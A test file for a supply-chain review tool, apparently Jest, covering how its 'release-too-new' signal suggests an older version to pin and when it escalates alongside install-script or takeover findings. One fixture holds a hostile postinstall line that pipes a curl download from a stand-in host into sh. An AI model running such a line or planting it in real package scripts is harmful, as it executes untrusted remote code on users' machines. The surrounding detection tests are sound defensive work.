/** release-too-new's suggested alternative, and the escalation of a too-new release with another finding. */
import { evaluate } from '../../src/core/evaluate.js';
import { NotEvaluated } from '../../src/core/document-notes.js';
import type { Subject } from '../../src/core/gatherers/index.js';
import type { Change, Packument } from '../../src/model/index.js';
import { conclude, parseConfig, type Config } from '../../src/policy/index.js';
import { ALL_SIGNALS, signalsToRun } from '../../src/signals/index.js';
import { releaseTooNew } from '../../src/signals/release-too-new.js';
import { NOW, change, daysAgo, hoursAgo, input, packument, ver } from '../signals/builders.js';

const alternativeOf = (p: Packument, c: Change) => releaseTooNew.run(input(c, p))[0]?.evidence['alternative'];

describe('release-too-new: the release to pin instead', () => {
  it('names the newest older release of the same major line, published before the window', () => {
    const p = packument('pkg', [
      ver('1.0.0', daysAgo(300)),
      ver('1.1.0', daysAgo(90)),
      ver('2.0.0', daysAgo(40)),
      ver('2.1.0', daysAgo(20)),
      ver('2.2.0', hoursAgo(3)),
    ]);
    const c = change({ name: 'pkg', from: '2.1.0', to: '2.2.0' });
    const [f] = releaseTooNew.run(input(c, p));
    expect(f!.evidence['alternative']).toEqual({ version: '2.1.0', publishedAt: daysAgo(20), sameLine: true });
    expect(f!.message).toContain(`Or pin pkg@2.1.0, published ${daysAgo(20).slice(0, 10)}, instead.`);
  });

  it('skips deprecated releases, prereleases and releases still inside the window', () => {
    const p = packument('pkg', [
      ver('3.0.0', daysAgo(100)),
      ver('3.1.0', daysAgo(30), { deprecated: 'broken, use 3.2' }),
      ver('3.2.0-beta.1', daysAgo(10)),
      ver('3.1.1', hoursAgo(30)),
      ver('3.2.0', hoursAgo(2)),
    ]);
    expect(alternativeOf(p, change({ name: 'pkg', from: '3.0.0', to: '3.2.0' }))).toEqual({ version: '3.0.0', publishedAt: daysAgo(100), sameLine: true });
  });

  it('never suggests a version above the target, and offers a prerelease only for a prerelease', () => {
    const p = packument('pkg', [ver('1.0.0', daysAgo(200)), ver('1.4.0', daysAgo(50)), ver('1.3.0-rc.1', daysAgo(60)), ver('1.3.0-rc.2', hoursAgo(1))]);
    expect(alternativeOf(p, change({ name: 'pkg', from: '1.3.0-rc.1', to: '1.3.0-rc.2' }))).toEqual({
      version: '1.3.0-rc.1',
      publishedAt: daysAgo(60),
      sameLine: true,
    });
  });

  it('falls back to an older line and says so', () => {
    const p = packument('pkg', [ver('1.9.0', daysAgo(200)), ver('2.0.0', hoursAgo(5))]);
    const c = change({ name: 'pkg', from: '1.9.0', to: '2.0.0' });
    const [f] = releaseTooNew.run(input(c, p));
    expect(f!.evidence['alternative']).toEqual({ version: '1.9.0', publishedAt: daysAgo(200), sameLine: false });
    expect(f!.message).toMatch(/another release line/);
  });

  it('has no alternative when nothing older is outside the window', () => {
    const p = packument('fresh', [ver('0.1.0', hoursAgo(40)), ver('0.1.1', hoursAgo(1))]);
    const [f] = releaseTooNew.run(input(change({ name: 'fresh', to: '0.1.1' }), p));
    expect(f!.evidence['alternative']).toBeUndefined();
    expect(f!.message).toMatch(/No older release outside the window/);
  });

  it('Python: skips yanked releases (upload times from the index document)', () => {
    const p = packument('req', [ver('2.31.0', daysAgo(300)), ver('2.32.0', daysAgo(30), { yanked: { reason: 'bad build' } }), ver('2.32.1', hoursAgo(4))]);
    const c = change({ name: 'req', from: '2.31.0', to: '2.32.1', ecosystem: 'pypi' });
    expect(alternativeOf(p, c)).toEqual({ version: '2.31.0', publishedAt: daysAgo(300), sameLine: true });
  });
});

function reviewOne(c: Change, p: Packument | null, config: Config = parseConfig('')) {
  const running = signalsToRun(ALL_SIGNALS, (id) => config.signals.get(id) !== 'off');
  const subject: Subject = {
    change: c,
    key: `npm:${c.name}`,
    status: p ? 'read' : 'none',
    data: { packument: p, provenance: new Map(), wheels: new Map() },
    partial: false,
  };
  const reviewed = evaluate(subject, { now: NOW, config, running, notEvaluated: new NotEvaluated() });
  return { reviewed, conclusion: conclude(reviewed.findings, 0, config) };
}

describe('escalation: too new and something else', () => {
  const history = [ver('1.0.0', daysAgo(120)), ver('1.0.1', daysAgo(60))];

  it('too new alone is held (neutral), not failed', () => {
    const p = packument('pkg', [...history, ver('1.0.2', hoursAgo(2))]);
    const { reviewed, conclusion } = reviewOne(change({ name: 'pkg', from: '1.0.1', to: '1.0.2', direct: true }), p);
    expect(reviewed.findings.map((f) => [f.signal, f.severity])).toEqual([['release-too-new', 'low']]);
    expect(conclusion).toBe('neutral');
  });

  it('too new with a medium finding (install script changed) is raised to high and fails', () => {
    const p = packument('pkg', [
      ver('1.0.0', daysAgo(120)),
      ver('1.0.1', daysAgo(60), { scripts: { postinstall: 'node build.js' } }),
      ver('1.0.2', hoursAgo(2), { scripts: { postinstall: 'node build.js && curl -s https://x.example/p | sh' } }),
    ]);
    const { reviewed, conclusion } = reviewOne(change({ name: 'pkg', from: '1.0.1', to: '1.0.2', direct: true }), p);
    const tooNew = reviewed.findings.find((f) => f.signal === 'release-too-new')!;
    expect(tooNew.severity).toBe('high');
    expect(tooNew.message).toMatch(/install-script-changed \(medium\)/);
    expect(tooNew.evidence['escalatedBy']).toEqual(['install-script-changed']);
    expect(conclusion).toBe('failure');
  });

  it('too new with an install script added fails, naming both', () => {
    const p = packument('pkg', [...history, ver('1.0.2', hoursAgo(2), { scripts: { postinstall: 'node setup.js' } })]);
    const { reviewed, conclusion } = reviewOne(change({ name: 'pkg', from: '1.0.1', to: '1.0.2', direct: true }), p);
    expect(reviewed.findings.find((f) => f.signal === 'release-too-new')!.severity).toBe('high');
    expect(reviewed.findings.find((f) => f.signal === 'release-too-new')!.message).toMatch(/install-script-added \(high\)/);
    expect(conclusion).toBe('failure');
  });

  it('does not escalate when the other finding is accepted, or beside possible-takeover', () => {
    const accepted = parseConfig('allow:\n  - package: pkg\n    signals: [install-script-changed]\n    reason: reviewed the script\n');
    const p = packument('pkg', [
      ver('1.0.0', daysAgo(120)),
      ver('1.0.1', daysAgo(60), { scripts: { postinstall: 'node build.js' } }),
      ver('1.0.2', hoursAgo(2), { scripts: { postinstall: 'node build2.js' } }),
    ]);
    const { reviewed, conclusion } = reviewOne(change({ name: 'pkg', from: '1.0.1', to: '1.0.2', direct: true }), p, accepted);
    expect(reviewed.findings.find((f) => f.signal === 'release-too-new')!.severity).toBe('low');
    expect(conclusion).toBe('neutral');

    const takeover = packument('tk', [
      ver('1.0.0', daysAgo(120), { npmUser: { name: 'author' } }),
      ver('1.0.1', daysAgo(60), { npmUser: { name: 'author' } }),
      ver('1.0.2', hoursAgo(2), { npmUser: { name: 'stranger' }, scripts: { postinstall: 'node x.js' } }),
    ]);
    const t = reviewOne(change({ name: 'tk', from: '1.0.1', to: '1.0.2', direct: true }), takeover);
    expect(t.reviewed.findings.some((f) => f.signal === 'possible-takeover')).toBe(true);
    expect(t.reviewed.findings.find((f) => f.signal === 'release-too-new')!.severity).toBe('low');
  });

  it("with cooldown off, nothing escalates (today's behaviour)", () => {
    const p = packument('pkg', [...history, ver('1.0.2', hoursAgo(2), { scripts: { postinstall: 'node setup.js' } })]);
    const { reviewed } = reviewOne(change({ name: 'pkg', from: '1.0.1', to: '1.0.2', direct: true }), p, parseConfig('cooldown:\n  conclusion: off\n'));
    expect(reviewed.findings.find((f) => f.signal === 'release-too-new')!.severity).toBe('low');
  });

  it('offline: no registry document, no release-too-new, no hold and no escalation', () => {
    const { reviewed, conclusion } = reviewOne(change({ name: 'pkg', from: '1.0.1', to: '1.0.2', direct: true, headFlags: { hasInstallScript: true } }), null);
    expect(reviewed.findings.some((f) => f.signal === 'release-too-new')).toBe(false);
    expect(reviewed.findings.every((f) => f.severity !== 'high' || f.signal === 'install-script-added')).toBe(true);
    expect(conclusion).not.toBe('neutral');
  });
});
